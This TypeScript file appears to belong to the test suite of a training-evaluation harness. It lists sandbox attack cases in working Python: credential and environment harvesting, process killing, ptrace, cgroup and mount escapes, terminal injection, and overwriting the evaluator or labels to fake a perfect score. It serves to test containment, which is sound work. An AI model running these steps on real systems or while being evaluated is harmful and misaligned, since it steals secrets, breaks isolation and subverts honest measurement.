import { DISCARDED, labelled, NAP, same, type Attack } from './attack.js';

/** A prepared file whose content must reach no recipe: the task of the suite writes it. */
export const LABELS = 'labels.txt';
/** Name of the variable in the worker's environment whose value is the canary. */
export const SECRET = 'ANTHROPIC_API_KEY';

const damaged = (label: 'fs', where: string): Pick<Attack, 'best' | 'group'> => ({
  best: DISCARDED,
  group: { ends: ['violation'], phase: 'train', reason: new RegExp(where), label },
});

/** Attacks on what a recipe must not see or change. */
export const REACHING: readonly Attack[] = [
  {
    name: 'held-out-data',
    does: 'searches the file system for held-out data, to train on it',
    // prepared data is three folders deep; a training has no time to search a whole disk
    code: `
def walk(root, deep=5, entries=20000):
    for folder, inside, names in os.walk(root):
        entries -= len(inside) + len(names)
        if entries < 0: return
        if folder[len(root):].count("/") == deep: inside.clear()
        yield folder, names
for root in (HARNESS, os.path.dirname(HARNESS) + "/assay-attack", "/srv", "/mnt", "/home"):
    for folder, names in walk(root):
        if "${LABELS}" in names:
            print(tried(lambda: open(os.path.join(folder, "${LABELS}")).read()))
            breach("fs", folder)
artifact()`,
    ...labelled('fs'),
  },
  {
    name: 'held-out-by-proc',
    does: 'looks for held-out data through /proc/*/root, /proc/*/cwd and /proc/*/fd',
    code: `
inside = os.path.relpath(os.path.join(HARNESS, "prepared"), "/")
for process in glob.glob("/proc/[0-9]*"):
    for way in ("root", "cwd/" + "../" * 12):
        for path in glob.glob(os.path.join(process, way, inside, "*", "search", "*")):
            try: print(open(path).read(200)); breach("fs", path)
            except OSError: pass
    for path in glob.glob(process + "/fd/*"):
        try:
            target = os.readlink(path)
            if "/prepared/" in target or "/evaluator/" in target: breach("fs", target)
        except OSError: pass
artifact()`,
    ...labelled('fs'),
  },
  {
    name: 'evaluator-source',
    does: 'reads the evaluator, to fit what it asks',
    code: `
for path in glob.glob(HARNESS + "/tasks/*/evaluator/*"):
    print(open(path).read()); breach("fs", path)
artifact()`,
    ...labelled('fs'),
  },
  {
    name: 'environment',
    does: 'reads its own environment and that of every process that it sees',
    code: `
for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try: text = open(path, "rb").read()
    except OSError: continue
    if b"${SECRET}" in text: breach("secrets", path)
    # the secret itself is written where it would be stored
    if path == "/proc/self/environ" or "${SECRET}".encode() not in text: print(text[:300])
artifact()`,
    ...labelled('secrets'),
  },
  {
    name: 'secrets-on-disk',
    does: 'looks for keys and tokens in the usual places',
    code: `
for path in ("~/.ssh/*", "~/.netrc", "~/.aws/*", "~/.config/*/*", "~/.npmrc", "/root/.*rc", "/etc/shadow", "/run/secrets/*", "/var/run/secrets/*/*"):
    for found in glob.glob(os.path.expanduser(path)):
        if os.path.isfile(found) and tried(lambda: open(found, "rb").read()) is not None: breach("secrets", found)
artifact()`,
    ...labelled('secrets'),
  },
  {
    name: 'network',
    does: 'connects to the ports of this host, Temporal’s and the store’s among them, and sends datagrams outside',
    code: `
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try: rows = open(table).read().split("\\n")[1:]
    except OSError: rows = []
    for row in rows:
        fields = row.split()
        if len(fields) > 3 and fields[3] == "0A": ports.add(int(fields[1].split(":")[1], 16))
for port in [*OPEN_PORTS, *sorted(ports)[:8]]:
    for host in ("127.0.0.1", "::1"):
        try: socket.create_connection((host, port), timeout=0.5).close(); breach("net", port)
        except OSError: pass
try:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.sendto(b"x", ("192.0.2.1", 9)); breach("net", "datagram")
except OSError as error: print("denied:", error)
artifact()`,
    ...labelled('net'),
  },
  {
    name: 'abstract-socket',
    does: 'connects to abstract unix sockets of the host',
    code: `
names = ["assay-attack-${NAP}"]
for row in open("/proc/net/unix").read().split("\\n"):
    if "@" in row and "assay-attack-${NAP}" in row: names.append(row.split("@")[1])
for name in names:
    try: socket.socket(socket.AF_UNIX).connect("\\0" + name); breach("net", name)
    except OSError as error: print("denied:", error)
artifact()`,
    ...labelled('net'),
  },
  {
    name: 'signals-harness',
    does: 'finds the worker among the processes, and asks whether it could signal it',
    code: `
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try: line = open(path, "rb").read()
    except OSError: continue
    if b"assay.js" not in line: continue
    try: os.kill(int(path.split("/")[2]), 0); breach("pid", path)
    except OSError: pass
artifact()`,
    ...labelled('pid'),
  },
  {
    name: 'kills-parent',
    does: 'kills its parent and continues',
    code: `artifact(3.0)\nos.kill(os.getppid(), 9)\ntime.sleep(20)`,
    ...same({ ends: ['crash'], phase: 'train' }),
  },
  {
    name: 'kills-all',
    does: 'kills its parent, process 1 and everything that it may signal',
    code: `
artifact(3.0)
for target in (1, os.getppid(), 0 - 1):
    try: os.kill(target, 9)
    except OSError: pass
time.sleep(20)`,
    best: { ends: ['crash', 'train_budget_overrun'], phase: 'train' },
    group: { notRun: 'it would end every process of its user', label: 'pid' },
    brief: true,
  },
  {
    name: 'control-group',
    does: 'moves itself into every control group that it can write, away from its limits',
    code: `
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:400]:
    try:
        with open(path, "w") as file: file.write(str(os.getpid()))
        breach("mem", path)
        break
    except OSError as error: print("denied:", error)
artifact()`,
    ...labelled('mem'),
  },
  {
    name: 'ptrace',
    does: 'attaches to every process that is not its own, and reads its memory',
    code: `
libc = ctypes.CDLL(None, use_errno=True)
own = {os.getpid(), os.getppid()}
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.split("/")[2])
    if pid in own: continue
    try: line = open(path + "/cmdline", "rb").read()
    except OSError: continue
    if libc.ptrace(16, pid, None, None) == 0:
        libc.ptrace(17, pid, None, None)
        if b"bwrap" not in line: breach("pid", line)
artifact()`,
    // stopping the sandbox's own first process stops only the attack itself
    best: { ends: ['discard', 'train_budget_overrun'] },
    group: { notRun: 'it would stop every process of its user', label: 'pid' },
    brief: true,
  },
  {
    name: 'remounts',
    does: 'makes namespaces of its own and remounts its read-only folders to write to them',
    code: `
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, NEWUSER, NEWNS = 32, 4096, 0x10000000, 0x20000
print(libc.unshare(NEWUSER | NEWNS), libc.unshare(NEWNS))
for target in (b"/", b"/usr", b"/proc"):
    if libc.mount(None, target, None, MS_REMOUNT | MS_BIND, None) == 0: breach("fs", target)
    libc.umount2(target, 2)
for path in ("/usr/assay-attack", "/etc/assay-attack", "/assay-attack"):
    try: open(path, "w").close(); os.unlink(path); breach("fs", path)
    except OSError as error: print("denied:", error)
artifact()`,
    best: DISCARDED,
    group: { notRun: 'root could change the mounts of the host', label: 'fs' },
  },
  {
    name: 'proc-sys',
    does: 'writes to /proc/sys, /sys and to devices of the host',
    code: `
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
    try:
        with open(path, "r+") as file:
            same = file.read(); file.seek(0); file.write(same)
        breach("fs", path)
    except OSError as error: print("denied:", error)
for path in ("/proc/sysrq-trigger", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm"):
    try: os.close(os.open(path, os.O_WRONLY)); breach("fs", path)
    except OSError as error: print("denied:", error)
artifact()`,
    ...labelled('fs'),
  },
  {
    name: 'more-gpus',
    does: 'asks for every accelerator by environment and by device node',
    code: `
os.environ["CUDA_VISIBLE_DEVICES"] = os.environ["NVIDIA_VISIBLE_DEVICES"] = "all"
for path in glob.glob("/dev/nvidia*") + glob.glob("/dev/dri/*") + glob.glob("/dev/kfd"):
    try: os.close(os.open(path, os.O_RDWR)); breach("gpu", path)
    except OSError as error: print("denied:", error)
artifact()`,
    ...labelled('gpu'),
  },
  {
    name: 'terminal',
    does: 'types into the terminal that started the worker (TIOCSTI)',
    code: `
import fcntl
for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*")):
    try:
        # no terminal is typed into: a controlling one is all that is asked for
        if path == "/dev/tty": fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b"\\n"); breach("pid", path)
    except OSError as error: print("denied:", error)
for descriptor in range(3):
    try: fcntl.ioctl(descriptor, 0x5412, b"\\n"); breach("pid", descriptor)
    except OSError as error: print("denied:", error)
artifact()`,
    ...same(DISCARDED),
  },
  {
    name: 'cache-leave',
    does: 'leaves state for the next run in /tmp, /dev/shm, ~/.cache, its code’s folder, __pycache__ and a keyring',
    code: `
libc = ctypes.CDLL(None, use_errno=True)
places = ("/tmp", "/dev/shm", "/var/tmp", HOME + "/.cache", os.getcwd(), os.getcwd() + "/__pycache__", os.path.dirname(OUT), os.path.dirname(os.path.dirname(OUT)))
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        open(place + "/assay-attack-state", "w").write("warm")
    except OSError as error: print("denied:", error)
libc.syscall(248, b"user", b"assay-attack-state", b"warm", 4, -4)
artifact()`,
    ...same(DISCARDED),
  },
  {
    name: 'cache-find',
    does: 'looks for that state in a later trial',
    code: `
libc = ctypes.CDLL(None, use_errno=True)
places = ("/tmp", "/dev/shm", "/var/tmp", HOME + "/.cache", os.getcwd(), os.getcwd() + "/__pycache__", os.path.dirname(OUT), os.path.dirname(os.path.dirname(OUT)))
for place in places:
    if os.path.exists(place + "/assay-attack-state"): breach("fs", place)
if libc.syscall(249, b"user", b"assay-attack-state", None, 0) > 0: breach("secrets", "keyring")
artifact()`,
    ...labelled('fs'),
  },
  {
    name: 'evaluator-overwritten',
    does: 'overwrites the evaluator with one that always answers a perfect score',
    code: `
evil = 'import json, os\\nwith os.fdopen(int(os.environ["ASSAY_RESULT_FD"]), "w") as out: json.dump({"schema": "assay.evaluation/1", "metrics": {"loss": 0.0}}, out)\\n'
for path in glob.glob(HARNESS + "/tasks/*/evaluator/evaluate.py"):
    try:
        before = os.stat(path)
        with open(path, "r+") as file: file.write(evil); file.truncate()
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        breach("fs", path)
    except OSError as error: print("denied:", error)
artifact()`,
    ...damaged('fs', 'evaluator/evaluate.py'),
    alone: true,
  },
  {
    name: 'evaluator-shadowed',
    does: 'puts a module beside the evaluator that is imported in place of json',
    code: `
for folder in glob.glob(HARNESS + "/tasks/*/evaluator"):
    try: open(folder + "/json.py", "w").write("import os\\nos._exit(0)\\n"); breach("fs", folder)
    except OSError as error: print("denied:", error)
artifact()`,
    ...damaged('fs', 'evaluator/json.py'),
    alone: true,
  },
  {
    name: 'labels-replaced',
    does: 'replaces the held-out labels, with a manifest that agrees',
    code: `
import hashlib
for folder in glob.glob(HARNESS + "/prepared/*"):
    try:
        path = folder + "/search/${LABELS}"
        open(path, "w").write("mine")
        manifest = json.load(open(folder + "/manifest.json"))
        for file in manifest["files"]:
            if file["path"].endswith("${LABELS}"): file.update(sha256=hashlib.sha256(b"mine").hexdigest(), bytes=4)
        json.dump(manifest, open(folder + "/manifest.json", "w"))
        breach("fs", path)
    except OSError as error: print("denied:", error)
artifact()`,
    ...damaged('fs', 'manifest.json|search/labels.txt'),
    alone: true,
  },
  {
    name: 'site-packages',
    does: 'alters the packages that the evaluator imports, and adds a .pth that runs at every start',
    code: `
import site
for folder in site.getsitepackages():
    try:
        open(folder + "/assay_attack.pth", "w").write("import os; os.environ.setdefault('OWNED', '1')\\n")
        breach("fs", folder)
    except OSError as error: print("denied:", error)
artifact()`,
    ...damaged('fs', 'assay_attack.pth'),
    alone: true,
  },
  {
    name: 'python-replaced',
    does: 'replaces the Python that the evaluator runs by a program of its own',
    code: `
path = os.path.join(sys.prefix, "bin/python")
try:
    os.rename(path, path + ".real")
    open(path, "w").write('#!/bin/sh\\necho \\'{"schema": "assay.evaluation/1", "metrics": {"loss": 0}}\\' >&$ASSAY_RESULT_FD\\n')
    os.chmod(path, 0o755)
    breach("fs", path)
except OSError as error: print("denied:", error)
artifact()`,
    ...damaged('fs', 'bin/python'),
    alone: true,
  },
];
